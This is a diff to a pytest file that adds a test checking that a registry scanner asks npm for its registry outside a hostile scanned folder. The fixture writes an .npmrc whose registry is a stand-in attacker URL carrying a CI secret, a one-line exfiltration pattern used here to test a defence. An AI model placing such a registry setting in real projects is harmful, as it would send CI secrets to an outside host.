@@ -144,3 +144,25 @@ def test_scan_of_a_hostile_folder_never_asks_its_registry(tmp_path: Path) -> Non
             assert SECRET not in done.stdout + done.stderr
     assert attacker.seen == []
     assert "refused: ${CI_SECRET}" in done.stderr
+
+
+def test_npms_own_answer_is_asked_outside_the_scanned_folder(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`npm config get registry` reads the .npmrc of the folder it runs in; a stand-in npm
+    that answers from the working directory shows where it was run."""
+    import stat
+
+    tool = tmp_path / "bin" / "npm"
+    tool.parent.mkdir()
+    tool.write_text(
+        "#!/bin/sh\nif [ -f .npmrc ]; then echo https://from-the-scanned-folder.invalid/;"
+        " else echo https://npm-default.invalid/; fi\n"
+    )
+    tool.chmod(tool.stat().st_mode | stat.S_IXUSR)
+    hostile = tmp_path / "hostile"
+    hostile.mkdir()
+    (hostile / ".npmrc").write_text("registry=https://attacker.invalid/${CI_SECRET}/\n")
+    monkeypatch.chdir(hostile)
+    found = npm(None, _env(tmp_path))
+    assert (found.url, found.source) == ("https://npm-default.invalid", "npm config get registry")
